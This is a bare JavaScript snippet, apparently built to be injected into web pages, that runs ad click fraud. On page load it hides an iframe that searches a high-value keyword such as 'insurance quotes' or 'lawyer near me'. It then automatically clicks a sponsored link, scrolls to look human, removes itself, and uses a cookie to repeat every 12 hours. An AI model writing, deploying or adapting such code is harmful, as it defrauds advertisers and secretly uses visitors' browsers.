var _0q = ['insurance quotes', 'car loan bad credit', 'lawyer near me', 'vpn deals'];
var box = document.createElement('div');
box.style.cssText = 'overflow:hidden;height:0';
document.body.appendChild(box);
function session(k) {
  var f = document.createElement('iframe');
  f.width = 1280; f.height = 900;
  f.src = '/srp.php?q=' + encodeURIComponent(k) + '&subid=' + (1000 + k.length);
  f.onload = function () {
    var w = f.contentWindow, d = w.document, links = d.querySelectorAll('.sponsored a, a[data-ad-pos]');
    if (!links.length) return box.removeChild(f);
    setTimeout(function () {
      var n = Math.random() < .7 ? 0 : Math.floor(Math.random() * Math.min(3, links.length));
      links[n].target = '_self';
      links[n].click();
      setTimeout(function () { try { w.scrollTo(0, 600) } catch (e) {} }, 8000);
      setTimeout(function () { f.remove() }, 40000);
    }, 3000 + Math.random() * 6000);
  };
  box.appendChild(f);
}
if (!document.cookie.match(/sfq=/)) {
  document.cookie = 'sfq=1;max-age=43200;path=/';
  session(_0q[new Date().getMinutes() % _0q.length]);
}
